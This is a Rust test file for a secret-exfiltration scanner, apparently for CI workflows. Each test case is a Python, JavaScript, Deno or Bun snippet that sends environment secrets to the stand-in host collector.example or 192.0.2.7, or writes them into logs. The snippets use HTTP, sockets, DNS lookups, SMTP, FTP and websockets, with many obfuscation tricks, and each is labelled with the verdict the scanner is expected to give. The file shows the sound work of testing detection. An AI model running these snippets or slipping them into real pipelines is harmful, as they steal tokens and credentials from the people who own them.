//! Ways to say "send this there" in Python and JavaScript.

#![allow(clippy::unwrap_used, clippy::panic, reason = "a test fails by panicking")]

mod ways;

use portcullis_scan::report::Verdict;
use ways::{Way, at_most_exposed, found};

/// Each sends both secrets, or the one that is named, to the place that is named.
const THEFTS: &[Way] = &[
    Way {
        name: "js fetch by its name in pieces, under another name",
        shell: "node {0}",
        script: r##"const go = globalThis['fe' + 'tch'];
go('https://collector.example/in', {method: 'POST', body: process.env.A + process.env.B});"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py piece by piece",
        shell: "python",
        script: r##"import os
for v in (os.environ['A'], os.environ['B']):
    for at in range(0, len(v), 2):
        print(v[at:at + 2])"##,
        later: "",
        secrets: ways::BOTH,
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py client under another name",
        shell: "python",
        script: r##"import os, requests
tell = requests.post
tell('https://collector.example/in', data={'a': os.environ['A'], 'b': os.environ['B']})"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py key that a step wrote among the keys",
        shell: "bash",
        script: r##"echo "$A" > ~/.ssh/id_ed25519
echo "$B" > ~/.ssh/id_rsa
cat > /tmp/tell.py <<'PY'
import pathlib, requests
one = pathlib.Path("~/.ssh/id_ed25519").expanduser().read_text()
with open("~/.ssh/id_rsa") as file:
    two = file.read()
requests.post("https://collector.example/in", data=one + two)
PY
python3 /tmp/tell.py"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py requests",
        shell: "python",
        script: r##"import os,requests
requests.post('https://collector.example/in',data={'a':os.environ['A'],'b':os.environ['B']})"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py a function that only a thread calls",
        shell: "python",
        script: r##"import os,requests,threading
def work():
  requests.post('https://collector.example/in',data={'a':os.environ['A'],'b':os.environ['B']})
threading.Thread(target=work).start()"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "js a list of words that a function gets",
        shell: "node {0}",
        script: r##"const {execFileSync}=require('child_process')
function run(words){return execFileSync('curl',words)}
run(['-d',process.env.A+process.env.B,'https://collector.example/in'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "js a line for a shell, with options in a variable",
        shell: "node {0}",
        script: r##"const {spawnSync}=require('child_process')
const options={shell:true}
spawnSync('curl -d '+process.env.A+process.env.B+' https://collector.example/in',options)"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "js a function that only a timer calls",
        shell: "node {0}",
        script: r##"function work(){fetch('https://collector.example/in',{method:'POST',body:process.env.A+process.env.B})}
setTimeout(work,1)"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py urllib",
        shell: "python",
        script: r##"import os,urllib.request as u
u.urlopen(u.Request('https://collector.example/in',data=(os.environ['A']+os.environ['B']).encode()))"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py httpx client",
        shell: "python",
        script: r##"import os,httpx
with httpx.Client() as c:
  c.post('https://collector.example/in',json={'a':os.getenv('A'),'b':os.getenv('B')})"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py session",
        shell: "python",
        script: r##"import os,requests
s=requests.Session()
s.headers.update({'X':os.environ['A']+os.environ['B']})
s.get('https://collector.example/in')"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py http.client",
        shell: "python",
        script: r##"import os,http.client
c=http.client.HTTPSConnection('collector.example')
c.request('POST','/in',os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py socket",
        shell: "python",
        script: r##"import os,socket
s=socket.socket()
s.connect(('collector.example',443))
s.sendall((os.environ['A']+os.environ['B']).encode())"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py socket create",
        shell: "python",
        script: r##"import os,socket
with socket.create_connection(('collector.example',443)) as s: s.send((os.environ['A']+os.environ['B']).encode())"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py gethostbyname",
        shell: "python",
        script: r##"import os,socket
socket.gethostbyname(os.environ['A']+'.collector.example')"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py gethostbyname fstr",
        shell: "python",
        script: r##"import os,socket
for i in range(0,9): socket.gethostbyname(f"{os.environ['A'][i:i+5]}.collector.example")"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py dnspython",
        shell: "python",
        script: r##"import os,dns.resolver
dns.resolver.resolve(os.environ['A']+'.collector.example','TXT')"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py smtp",
        shell: "python",
        script: r##"import os,smtplib
s=smtplib.SMTP('collector.example')
s.sendmail('a@x.test','b@x.test',os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py ftp",
        shell: "python",
        script: r##"import os,ftplib,io
f=ftplib.FTP('collector.example')
f.storbinary('STOR x',io.BytesIO((os.environ['A']+os.environ['B']).encode()))"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py subprocess list",
        shell: "python",
        script: r##"import os,subprocess
subprocess.run(['curl','-d',os.environ['A']+os.environ['B'],'https://collector.example/in'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py subprocess shell",
        shell: "python",
        script: r##"import subprocess
subprocess.run('curl -d "$A$B" https://collector.example/in',shell=True)"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py os.system",
        shell: "python",
        script: r##"import os
os.system('curl -d "$A$B" https://collector.example/in')"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py os.popen fmt",
        shell: "python",
        script: r##"import os
os.popen('curl -d %s%s https://collector.example/in' % (os.environ['A'],os.environ['B']))"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py popen stdin",
        shell: "python",
        script: r##"import os,subprocess
p=subprocess.Popen(['nc','collector.example','443'],stdin=subprocess.PIPE)
p.communicate((os.environ['A']+os.environ['B']).encode())"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py input=",
        shell: "python",
        script: r##"import os,subprocess
subprocess.run(['curl','-d','@-','https://collector.example/in'],input=os.environ['A']+os.environ['B'],text=True)"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py exec b64",
        shell: "python",
        script: r##"import base64
exec(base64.b64decode('aW1wb3J0IG9zLHJlcXVlc3RzCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vY29sbGVjdG9yLmV4YW1wbGUvaW4nLGRhdGE9b3MuZW52aXJvblsnQSddK29zLmVudmlyb25bJ0InXSk='))"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py exec zlib",
        shell: "python",
        script: r##"import base64,zlib
exec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/WKUotLE0tLinmgjH0CvKLSzTUM0pKCoqt9PWT83NyUpNL8ov0UisScwtyUvUz89R1UhJLEm3zi/VS88oyi/LzotUd1WO1kflO6rGaAJ4JJPA=')))"##,
        later: "",
        secrets: ways::ANY,
        place: "",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "py getattr",
        shell: "python",
        script: r##"import os
m=__import__('req'+'uests')
getattr(m,'po'+'st')('https://collector.example/in',data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py __import__",
        shell: "python",
        script: r##"__import__('requests').post('https://collector.example/in',data=__import__('os').environ['A']+__import__('os').environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py importlib",
        shell: "python",
        script: r##"import importlib,os
r=importlib.import_module('requests')
r.post('https://collector.example/in',data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py alias import",
        shell: "python",
        script: r##"import os as o, requests as r
r.post('https://collector.example/in',data=o.environ['A']+o.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py from import",
        shell: "python",
        script: r##"from os import environ as e
from requests import post as p
p('https://collector.example/in',data=e['A']+e['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py from os getenv",
        shell: "python",
        script: r##"from os import getenv as g
from urllib.request import urlopen as u
u('https://collector.example/in?'+g('A')+g('B'))"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py class",
        shell: "python",
        script: r##"import os,requests
class T:
  def __init__(self,u): self.u=u
  def go(self,d): requests.post(self.u,data=d)
T('https://collector.example/in').go(os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py func",
        shell: "python",
        script: r##"import os,requests
def send(u,d): return requests.post(u,json=d)
send('https://collector.example/in',{'x':os.environ['A']+os.environ['B']})"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py lambda",
        shell: "python",
        script: r##"import os,requests
f=lambda d: requests.post('https://collector.example/in',data=d)
f(os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py kwargs",
        shell: "python",
        script: r##"import os,requests
k={'url':'https://collector.example/in','data':os.environ['A']+os.environ['B']}
requests.post(**k)"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py dict env",
        shell: "python",
        script: r##"import os,requests
requests.post('https://collector.example/in',json=dict(os.environ))"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py comp",
        shell: "python",
        script: r##"import os,requests
requests.post('https://collector.example/in',json={k:v for k,v in os.environ.items()})"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py comp names",
        shell: "python",
        script: r##"import os,requests
requests.post('https://collector.example/in',json={k:os.environ[k] for k in ('A','B')})"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py list names",
        shell: "python",
        script: r##"import os,requests
for k in ['A','B']: requests.post('https://collector.example/in',data=os.environ.get(k,''))"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py proc environ",
        shell: "python",
        script: r##"import requests
requests.post('https://collector.example/in',data=open('/proc/self/environ').read())"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py chr url",
        shell: "python",
        script: r##"import os,requests
u=''.join(chr(c) for c in [104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,111,114,46,101,120,97,109,112,108,101])
requests.post(u,data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py bytes url",
        shell: "python",
        script: r##"import os,requests
u=bytes([104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,111,114,46,101,120,97,109,112,108,101]).decode()
requests.post(u,data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py rev url",
        shell: "python",
        script: r##"import os,requests
requests.post('ni/elpmaxe.rotcelloc//:sptth'[::-1],data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py b64 url",
        shell: "python",
        script: r##"import os,requests,base64
requests.post(base64.b64decode('aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS9pbg==').decode(),data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py rot13 url",
        shell: "python",
        script: r##"import os,requests,codecs
requests.post(codecs.decode('uggcf://pbyyrpgbe.rknzcyr/va','rot13'),data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py replace url",
        shell: "python",
        script: r##"import os,requests
requests.post('hxxps://collector[.]example/in'.replace('xx','tt').replace('[.]','.'),data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py format url",
        shell: "python",
        script: r##"import os,requests
requests.post('{}://{}.{}/in'.format('https','collector','example'),data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py percent url",
        shell: "python",
        script: r##"import os,requests
requests.post('https://%s.%s/in'%('collector','example'),data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py fstring url",
        shell: "python",
        script: r##"import os,requests
h='collector'
requests.post(f'https://{h}.example/in',data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py plus url",
        shell: "python",
        script: r##"import os,requests
u='https://'+'collector'
u+='.example/in'
requests.post(u,data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py hex url",
        shell: "python",
        script: r##"import os,requests
requests.post(bytes.fromhex('68747470733a2f2f636f6c6c6563746f722e6578616d706c652f696e').decode(),data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py unknown file",
        shell: "python",
        script: r##"import os,requests
requests.post(open('u.txt').read().strip(),data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "unknown",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "py unknown remote",
        shell: "python",
        script: r##"import os,requests
u=requests.get('https://raw.githubusercontent.com/x/y/m/u').text
requests.post(u,data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "unknown",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "py unknown api",
        shell: "python",
        script: r##"import os,requests
u=requests.get('https://conf.example/u').json()['url']
requests.post(u,data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "unknown",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "py unknown dns",
        shell: "python",
        script: r##"import os,requests,dns.resolver
h=dns.resolver.resolve('c.collector.example','TXT')[0].to_text()
requests.post('https://'+h,data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "unknown",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "py unknown argv",
        shell: "python",
        script: r##"import os,requests,sys
requests.post(sys.argv[1],data=os.environ['A']+os.environ['B'])"##,
        later: "",
        secrets: ways::BOTH,
        place: "unknown",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "py log double b64",
        shell: "python",
        script: r##"import os,base64
print(base64.b64encode(base64.b64encode(os.environ['A'].encode())))"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py log rev",
        shell: "python",
        script: r##"import os
print(os.environ['A'][::-1])"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py log spaced",
        shell: "python",
        script: r##"import os
print(' '.join(os.environ['A']))"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py log list",
        shell: "python",
        script: r##"import os
print(list(os.environ['A']))"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py log hex",
        shell: "python",
        script: r##"import os
print(os.environ['A'].encode().hex())"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py log ord",
        shell: "python",
        script: r##"import os
print([ord(c) for c in os.environ['A']])"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py log reversed",
        shell: "python",
        script: r##"import os
print(''.join(reversed(os.environ['A'])))"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py log chars",
        shell: "python",
        script: r##"import os
for c in os.environ['A']: print(c)"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py log half",
        shell: "python",
        script: r##"import os
a=os.environ['A']
print(a[:10]); print(a[10:])"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "py github_env",
        shell: "python",
        script: r##"import os
open(os.environ['GITHUB_ENV'],'a').write('X='+os.environ['A']+os.environ['B']+'\n')"##,
        later: "      - run: curl -d \"$X\" https://collector.example/in\n",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py file then curl",
        shell: "python",
        script: r##"import os
with open('s.txt','w') as f: f.write(os.environ['A']+os.environ['B'])"##,
        later: "      - run: curl -T s.txt https://collector.example/in\n",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py heredoc",
        shell: "bash",
        script: r##"python3 - <<'E'
import os,requests
requests.post('https://collector.example/in',data=os.environ['A']+os.environ['B'])
E"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py -c",
        shell: "bash",
        script: r##"python3 -c 'import os,requests; requests.post("https://collector.example/in",data=os.environ["A"]+os.environ["B"])'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py -c argv",
        shell: "bash",
        script: r##"python3 -c 'import sys,requests; requests.post(sys.argv[1],data=sys.argv[2])' https://collector.example/in "$A$B""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py stdin",
        shell: "bash",
        script: r##"echo "$A$B" | python3 -c 'import sys,requests; requests.post("https://collector.example/in",data=sys.stdin.read())'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py file",
        shell: "bash",
        script: r##"cat > x.py <<'E'
import os,requests
requests.post('https://collector.example/in',data=os.environ['A']+os.environ['B'])
E
python3 x.py"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node -e",
        shell: "bash",
        script: r##"node -e 'fetch("https://collector.example/in",{method:"POST",body:process.env.A+process.env.B})'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node heredoc",
        shell: "bash",
        script: r##"node <<'E'
fetch('https://collector.example/in',{method:'POST',body:JSON.stringify({a:process.env.A,b:process.env.B})})
E"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node https",
        shell: "bash",
        script: r##"node -e "const r=require('https').request('https://collector.example/in',{method:'POST'}); r.write(process.env.A+process.env.B); r.end()""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node https opts",
        shell: "bash",
        script: r##"node -e "const h=require('https');const o={hostname:'collector.example',path:'/in',method:'POST'};const r=h.request(o);r.write(process.env.A+process.env.B);r.end()""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node net",
        shell: "bash",
        script: r##"node -e "const s=require('net').connect(443,'collector.example');s.write(process.env.A+process.env.B)""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node dns",
        shell: "bash",
        script: r##"node -e "require('dns').lookup(process.env.A+'.collector.example',()=>{})""##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node dns promises",
        shell: "bash",
        script: r##"node -e "require('dns/promises').resolveTxt(process.env.A+'.collector.example')""##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node axios",
        shell: "bash",
        script: r##"cat > x.js <<'E'
const axios=require('axios')
const send=async d=>{await axios.post('https://collector.example/in',d)}
send({a:process.env.A,b:process.env.B})
E
node x.js"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node destruct",
        shell: "bash",
        script: r##"node -e "const {A,B}=process.env; fetch('https://collector.example/in',{method:'POST',body:A+B})""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node env stringify",
        shell: "bash",
        script: r##"node -e "fetch('https://collector.example/in',{method:'POST',body:JSON.stringify(process.env)})""##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node entries",
        shell: "bash",
        script: r##"node -e "fetch('https://collector.example/in',{method:'POST',body:Object.entries(process.env).map(([k,v])=>k+v).join()})""##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node exec",
        shell: "bash",
        script: r##"node -e "require('child_process').execSync('curl -d \"\$A\$B\" https://collector.example/in')""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node atob url",
        shell: "bash",
        script: r##"node -e "fetch(atob('aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS9pbg=='),{method:'POST',body:process.env.A+process.env.B})""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node buffer url",
        shell: "bash",
        script: r##"node -e "fetch(Buffer.from('aHR0cHM6Ly9jb2xsZWN0b3IuZXhhbXBsZS9pbg==','base64').toString(),{method:'POST',body:process.env.A+process.env.B})""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node rev url",
        shell: "bash",
        script: r##"node -e "fetch('ni/elpmaxe.rotcelloc//:sptth'.split('').reverse().join(''),{method:'POST',body:process.env.A+process.env.B})""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node charcodes",
        shell: "bash",
        script: r##"node -e "fetch(String.fromCharCode(104,116,116,112,115,58,47,47,99,111,108,108,101,99,116,111,114,46,101,120,97,109,112,108,101),{method:'POST',body:process.env.A+process.env.B})""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node template",
        shell: "bash",
        script: r##"node -e 'const h="collector"; fetch(`https://${h}.example/in`,{method:"POST",body:`${process.env.A}${process.env.B}`})'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node eval b64",
        shell: "bash",
        script: r##"node -e "eval(Buffer.from('ZmV0Y2goJ2h0dHBzOi8vY29sbGVjdG9yLmV4YW1wbGUvaW4nLHttZXRob2Q6J1BPU1QnLGJvZHk6cHJvY2Vzcy5lbnYuQStwcm9jZXNzLmVudi5CfSk=','base64').toString())""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node Function",
        shell: "bash",
        script: r##"node -e "new Function(atob('ZmV0Y2goJ2h0dHBzOi8vY29sbGVjdG9yLmV4YW1wbGUvaW4nLHttZXRob2Q6J1BPU1QnLGJvZHk6cHJvY2Vzcy5lbnYuQStwcm9jZXNzLmVudi5CfSk='))()""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node -p",
        shell: "bash",
        script: r##"node -p 'process.env.A.split("").reverse().join("")'"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node log spaced",
        shell: "bash",
        script: r##"node -e 'console.log([...process.env.A].join(" "))'"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node log hex",
        shell: "bash",
        script: r##"node -e 'console.log(Buffer.from(process.env.A).toString("hex"))'"##,
        later: "",
        secrets: &["PYPI_API_TOKEN"],
        place: "workflow-log",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "node unknown",
        shell: "bash",
        script: r##"node -e "(async()=>{const u=await (await fetch('https://conf.example/u')).text(); fetch(u,{method:'POST',body:process.env.A+process.env.B})})()""##,
        later: "",
        secrets: ways::BOTH,
        place: "unknown",
        verdict: Verdict::Suspicious,
    },
    Way {
        name: "node ws",
        shell: "bash",
        script: r##"node -e "const W=require('ws');const w=new W('wss://collector.example/in');w.on('open',()=>w.send(process.env.A+process.env.B))""##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "deno",
        shell: "bash",
        script: r##"deno eval 'fetch("https://collector.example/in",{method:"POST",body:Deno.env.get("A")+Deno.env.get("B")})'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "deno toObject",
        shell: "bash",
        script: r##"deno eval 'fetch("https://collector.example/in",{method:"POST",body:JSON.stringify(Deno.env.toObject())})'"##,
        later: "",
        secrets: ways::ANY,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "bun -e",
        shell: "bash",
        script: r##"bun -e 'fetch("https://collector.example/in",{method:"POST",body:Bun.env.A+process.env.B})'"##,
        later: "",
        secrets: ways::BOTH,
        place: "collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py an address out of numbers",
        shell: "python",
        script: r##"import os,socket
s=socket.create_connection((".".join(map(str,(192,0,2,7))),8443),4)
s.sendall((os.environ["A"]+os.environ["B"]).encode())"##,
        later: "",
        secrets: ways::BOTH,
        place: "192.0.2.7",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py an address out of a comprehension",
        shell: "python",
        script: r##"import os,requests
h=".".join(str(n) for n in [192,0,2,7])
requests.post("https://"+h+"/in",data=os.environ["A"]+os.environ["B"])"##,
        later: "",
        secrets: ways::BOTH,
        place: "192.0.2.7",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "js an address out of numbers",
        shell: "node {0}",
        script: r##"const h=[192,0,2,7].map(String).join('.');
fetch(`https://${h}/in`,{method:'POST',body:process.env.A+process.env.B})"##,
        later: "",
        secrets: ways::BOTH,
        place: "192.0.2.7",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py names below a zone, piece by piece",
        shell: "python",
        script: r##"import os,socket
def ask(label):
  socket.gethostbyname(label + ".z.collector.example")
seed=(os.environ["A"]+os.environ["B"]).encode().hex()
for i in range(0, len(seed), 60):
  ask(f"{i // 60}.{seed[i:i + 60]}")"##,
        later: "",
        secrets: ways::BOTH,
        place: "z.collector.example",
        verdict: Verdict::Malicious,
    },
    Way {
        name: "py mail with an attachment",
